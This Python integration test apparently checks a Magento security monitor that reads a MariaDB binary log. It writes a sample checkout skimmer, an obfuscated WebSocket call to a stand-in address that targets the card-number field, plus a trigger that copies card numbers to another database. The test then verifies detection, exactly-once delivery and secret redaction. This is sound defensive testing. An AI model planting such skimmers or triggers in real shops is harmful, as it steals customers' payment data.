#!/usr/bin/env python3
"""The binary log of a real MariaDB: who wrote a skimmer, by which statement, through kills, restarts and purges.

usage: binlog.py MAGEWARDEN

Starts MariaDB with its binary log and audit plugin on a free port of 127.0.0.1, makes the log's account with the printed
statements, and follows with `up --source binlog`. Writes a skimmer to configuration, a page and a layout, and a trigger;
kills magewarden, the connection and the server while rows are written; writes poor, compressed and statement-based logs;
purges and resets the log. Each row must be told once or its loss said, and nothing that must not be read may be
in the ledger. Everything started here is ended by its process id.
"""
import json
import os
import pathlib
import re
import signal
import subprocess
import sys
import threading
import time

from shared import client, database, free_port, magento, need, observations, page, password_file, stage, verified, wait_for

SECRET = "not-a-real-secret-7c2e"
CARD = "encrypted-card-number-7c2e"
SCHEMA = pathlib.Path(__file__).resolve().parent.parent / "shop" / "schema.sql"
SKIMMER = "<script>var s=new WebSocket(atob(\\'d3NzOi8vMTk4LjUxLjEwMC45\\'));document.querySelector(\\'[name=cc_number]\\')</script>"
OPTIONS = ["--log-bin=shop-bin", "--binlog-format=ROW", "--binlog-row-metadata=FULL", "--server-id=7"]

# What must never be read: other tables, other columns, a setting that is a secret, a condition that names one.
SECRETS = f"""
insert into mg_sales_order_payment (parent_id, method, cc_number_enc) values (1, 'checkmo', '{CARD}');
insert into mg_quote_payment (quote_id, method, cc_number_enc, cc_cid_enc) values (41, 'checkmo', '{CARD}', '{SECRET}');
insert into mg_admin_user (username, password, email, is_active) values ('helper', '{SECRET}', 'helper@{SECRET}.example', 1);
update mg_admin_user set is_active = 0 where email = 'helper@{SECRET}.example' and password = '{SECRET}';
insert into mg_core_config_data (scope, scope_id, path, value) values ('default', 0, 'payment/gateway/private_key', '{SECRET}');
update mg_core_config_data set value = '{SECRET}-new' where path = 'payment/gateway/private_key';
update mg_customer_entity set password_hash = '{SECRET}';
insert into mg_customer_entity (website_id, email, password_hash) values (1, '{SECRET}@example.com', '{SECRET}');
"""


def main():
    magewarden = pathlib.Path(sys.argv[1]).resolve()
    with stage("binlog") as (started, folder):
        port = free_port()
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-keyout", folder / "key.pem", "-out", folder / "cert.pem",
                        "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-addext", "basicConstraints=critical,CA:FALSE"], check=True, capture_output=True)
        (folder / "key.pem").chmod(0o644)
        (folder / "keys").write_text("1;" + "5a" * 32 + "\n")
        server, audit = database(folder, port, options=OPTIONS + [f"--ssl-cert={folder}/cert.pem", f"--ssl-key={folder}/key.pem"])
        started.append(server)
        sql = lambda text: subprocess.run(client(folder) + ["-N"], check=True, input=text, text=True, capture_output=True).stdout
        # The page was last saved long ago, so that its time changes with it whatever the second.
        sql("create database shop; create database other; use shop;" + SCHEMA.read_text() + "update mg_cms_page set update_time = '2026-01-05 10:00:00';")
        root = magento(folder, SECRET)
        word = password_file(folder, "its-own-password")
        source = f"binlog,user=magewarden_log,password_file={word},server_id=4242"
        asked = ["--magento", str(root), "--source", source]
        printed = subprocess.run([str(magewarden), "up", *asked, "--print-grants"], check=True, capture_output=True, text=True).stdout
        own = [line for line in printed.splitlines() if "magewarden_log" in line and not line.startswith("--")]
        need(len(own) == 2 and "REPLICATION SLAVE" in own[1], "the log's account is printed", printed)
        sql(re.sub(r"THE PASSWORD IN [^']*", "its-own-password", " ".join(own)))
        console, data = free_port(), folder / "data"
        err = open(folder / "err", "w+")
        source_id = f"binlog:{folder}/sock"

        def start(word="reads the binary log"):
            up = subprocess.Popen([str(magewarden), "up", *asked, "--log", str(audit), "--data", str(data), "--port", str(console)], stderr=err)
            started.append(up)
            wait_for("the console", 120, lambda: "<main" in show())
            wait_for("the log is read", 60, lambda: word in show("/sources"))
            return up

        def kill(up):
            up.send_signal(signal.SIGKILL)
            up.wait(20)

        entries = lambda: observations(magewarden, data, source_id)

        def rows(table, change=None):
            return [row for row in entries() if row.get("row.table") == table and change in (None, row.get("change"))]

        def losses():
            health = observations(magewarden, data, "magewarden:health")
            return sum(1 for one in health if one.get("health.kind") == "lost" and one["health.source"] == source_id)

        show = lambda path="/incidents": page(console, path)
        up = start()
        need(not entries(), "a first start begins at the log's end", entries()[:3])

        # Harm, each row with its statement as the audit log has it, and beside it what must not be read.
        statements = [
            f"insert into mg_core_config_data (scope, scope_id, path, value) values ('websites', 2, 'design/head/includes', '{SKIMMER}')",
            f"update mg_cms_page set content = '{SKIMMER}' where page_id = 1",
            "insert into mg_layout_update (handle, xml) values ('checkout_index_index', '<action method=\"x\"><argument>system</argument></action>')"]
        began = time.time()
        sql("use shop;" + ";".join(statements) + ";" + SECRETS
            + "create trigger mg_t1 after insert on mg_quote_payment for each row insert into other.x values (new.cc_number_enc);")
        wait_for("the trigger", 30, lambda: any("mg_t1" in row.get("db.statement", "") for row in entries()))
        text = audit.read_text(errors="replace")
        for statement, table, change, key in zip(statements, ("core_config_data", "cms_page", "layout_update"), ("created", "modified", "created"), ("7", "1", "1")):
            row = rows(table, change)[0]
            need(row["row.key"] == key and row["db.statement"] == statement, f"{table}: key and statement", row)
            need(row["db.server_id"] == 7 and re.fullmatch(r"0-7-\d+", row["db.gtid"]), f"{table}: server and transaction", row)
            need(row["db.log_position"].startswith("shop-bin.000001:"), f"{table}: place", row)
            need(abs(time.mktime(time.strptime(row["time"][:19], "%Y-%m-%dT%H:%M:%S")) - time.timezone - began) < 30 or os.environ.get("TZ"), f"{table}: time", row)
            need(statement.split("'")[1] in text, f"{table}: the audit log has its twin")
        config = rows("core_config_data", "created")[0]
        need(config["config.path"] == "design/head/includes" and "scope=websites" in config["row.values"], "path and scope", config)
        need(rows("cms_page")[0]["row.columns"] == ["content", "update_time"], "the changed columns alone", rows("cms_page"))
        secret = [row for row in rows("core_config_data") if row["config.path"].startswith("payment/")]
        need([row["change"] for row in secret] == ["created", "modified"] and "value" in secret[1]["row.columns"], "a secret's change is told", secret)
        need(rows("admin_user", "created")[0]["row.values"][0] == "username=helper", "an administrator", rows("admin_user"))
        trigger = [row for row in entries() if "mg_t1" in row.get("db.statement", "")][0]
        need(trigger["category"] == "database" and trigger["db.connection_id"] > 0, "the trigger's connection", trigger)
        sql("use shop; drop trigger mg_t1")
        told = lambda: [show(link) for link in re.findall(r'href="(/incidents/[0-9a-f]+)"', show())]
        wanted = ("Skimmer", "calls code", "design/head/includes", "cms_page:1", "layout_update:1", "root")
        wait_for("what was written, and by whom, in one incident", 30, lambda: any(all(word in one for word in wanted) for one in told()))

        # Killed again and again, the connection cut, the server stopped: each row once.
        written, stop = [0], threading.Event()

        def write():
            while not stop.is_set():
                number = written[0] + 1
                text = f"use shop; start transaction; insert into mg_cms_block (identifier) values ('n{number}'); insert into mg_cms_block (identifier) values ('n{number + 1}'); commit;"
                done = subprocess.run(client(folder), input=text, text=True, capture_output=True)
                if done.returncode == 0:
                    written[0] += 2
                time.sleep(0.01)

        writer = threading.Thread(target=write)
        writer.start()
        for _ in range(4):
            time.sleep(1.5)
            kill(up)
            time.sleep(0.5)
            up = start()
        for line in sql("select id from information_schema.processlist where user = 'magewarden_log'").split():
            sql(f"kill {line}")
        time.sleep(2)
        stop.set()
        writer.join()
        server.terminate()
        server.wait(60)
        wait_for("the trouble on the page", 60, lambda: "failing" in show("/sources"))
        # From now on its log is encrypted on the disk.
        server = subprocess.Popen(server.args + ["--plugin-load-add=file_key_management", f"--file-key-management-filename={folder}/keys", "--encrypt-binlog"])
        started.append(server)
        wait_for("MariaDB", 60, lambda: subprocess.run(client(folder) + ["-e", "select 1"], capture_output=True).returncode == 0)
        sql("use shop; insert into mg_cms_block (identifier) values ('last');")
        blocks = lambda: [value for row in rows("cms_block", "created") for value in row["row.values"] if value.startswith("identifier=")]
        wait_for("rows after the server's restart", 90, lambda: "identifier=last" in blocks())
        names = blocks()
        expected = {f"identifier=n{number}" for number in range(1, written[0] + 1)} | {"identifier=last"}
        need(set(names) == expected, f"rows are missing: {sorted(expected - set(names))[:5]} or too many: {sorted(set(names) - expected)[:5]}")
        need(len(names) == len(expected), f"rows were told twice: {len(names)} for {len(expected)}")
        need(losses() == 0, "nothing was lost so far")

        # Many rows in one statement, changed and removed; compressed; an image of what changed alone.
        sql("use shop; insert into mg_layout_update (handle, xml) select concat('s', seq), 'x' from seq_1_to_900;"
            "set global log_bin_compress = 1; set global log_bin_compress_min_len = 10;"
            "update mg_layout_update set xml = repeat('y', 300) where handle like 's%'; delete from mg_layout_update where handle like 's%';"
            "set global log_bin_compress = 0;")
        wait_for("nine hundred rows made, changed and removed", 60, lambda: [len([row for row in rows("layout_update", change) if row["row.key"] != "1"]) for change in ("created", "modified", "removed")] == [900] * 3)
        sql("set global binlog_row_image = 'MINIMAL'")
        sql(f"use shop; update mg_cms_page set title = 'Poor' where page_id = 1; update mg_core_config_data set value = '{SECRET}' where path = 'payment/gateway/private_key';" + SECRETS.replace("gateway", "other"))
        wait_for("a poor image", 30, lambda: any("title=Poor" in row.get("row.values", []) and row["row.key"] == "1" for row in rows("cms_page")))
        sql("set global binlog_row_image = 'FULL'; set global binlog_row_metadata = 'NO_LOG'")
        sql("use shop; update mg_cms_page set title = 'Nameless' where page_id = 1;" + SECRETS.replace("gateway", "third"))
        wait_for("rows without names", 30, lambda: any("row.key" not in row and "db.statement" in row for row in rows("cms_page")))
        wait_for("that names are missing is said", 30, lambda: "binlog_row_metadata" in show("/sources"))
        sql("set global binlog_row_metadata = 'FULL'")
        sql(f"set binlog_format = 'STATEMENT'; use shop; update mg_cms_page set title = '{SECRET}' where page_id = 1;")
        wait_for("a statement without its rows is said", 30, lambda: "binlog_format" in show("/sources"))
        wait_for("the loss is sealed", 30, lambda: losses() == 1)

        # The log is purged, and begun anew, while nobody reads it.
        kill(up)
        sql("use shop; insert into mg_cms_block (identifier) values ('purged'); flush binary logs;"
            "insert into mg_cms_block (identifier) values ('kept'); flush binary logs; flush binary logs;")
        newest = sql("show binary logs").split()[-2]
        keep = f"shop-bin.{int(newest.split('.')[1]) - 2:06}"
        sql(f"purge binary logs to '{keep}'")
        up = start()
        wait_for("what was not purged", 30, lambda: "identifier=kept" in blocks())
        need("identifier=purged" not in blocks(), "what was purged is gone")
        wait_for("the purge is sealed as a loss", 30, lambda: losses() == 2)
        kill(up)
        sql("reset master; use shop; insert into mg_cms_block (identifier) values ('anew');")
        up = start()
        wait_for("what a log begun anew holds", 30, lambda: "identifier=anew" in blocks())
        wait_for("that it was begun anew is sealed as a loss", 30, lambda: losses() == 3)
        need(blocks().count("identifier=kept") == 1 and blocks().count("identifier=anew") == 1, "each once", blocks()[-9:])
        # While it is read, too.
        sql("reset master; use shop; insert into mg_cms_block (identifier) values ('again');")
        wait_for("what a log begun anew while it is read holds", 90, lambda: "identifier=again" in blocks())
        need(blocks().count("identifier=again") == 1, "once", blocks()[-9:])
        # Its place was changed by somebody else.
        kill(up)
        (place,) = data.glob("binlog*.place")
        place.write_text(place.read_text().replace("shop-bin", "shop-bon"))
        sql("use shop; insert into mg_cms_block (identifier) values ('bent');")
        up = start()
        wait_for("what came after the place the ledger has", 30, lambda: "identifier=bent" in blocks())
        need(all(blocks().count(f"identifier={name}") == 1 for name in ("again", "bent")), "each once", blocks()[-9:])

        # Over TLS, and only with the right authority.
        sql("create user magewarden_log@'127.0.0.1' identified by 'its-own-password' require ssl; grant replication slave, replication client on *.* to magewarden_log@'127.0.0.1'")
        far, far_port = folder / "far", free_port()
        other = subprocess.Popen([str(magewarden), "up", "--magento", str(root), "--source", f"{source},server=127.0.0.1:{port},ca_file={folder}/cert.pem",
                                  "--data", str(far), "--port", str(far_port)], stderr=err)
        started.append(other)
        wait_for("the log over TLS", 30, lambda: "reads the binary log" in page(far_port, "/sources"))
        sql("use shop; insert into mg_cms_block (identifier) values ('far');")
        wait_for("a row over TLS", 30, lambda: any("identifier=far" in row["row.values"] for row in observations(magewarden, far, f"binlog:127.0.0.1:{port}")))
        other.send_signal(signal.SIGTERM)
        other.wait(30)

        # An account that may do more is not used.
        sql("grant select on shop.* to magewarden_log@localhost")
        up.send_signal(signal.SIGTERM)
        up.wait(30)
        up = start(word="may do more")
        up.send_signal(signal.SIGTERM)
        up.wait(30)
        sealed = json.dumps(entries())
        need(SECRET not in sealed and CARD not in sealed, "a value that must not be read was read", re.findall(r".{300}7c2e", sealed)[:3])
        need("sales_order_payment" not in sealed and "customer_entity" not in sealed, "a table that isn't watched was told")
        verified(magewarden, data)
        print(f"1 passed, 0 failed ({len(entries())} records, {written[0]} rows through four kills)")


if __name__ == "__main__":
    main()
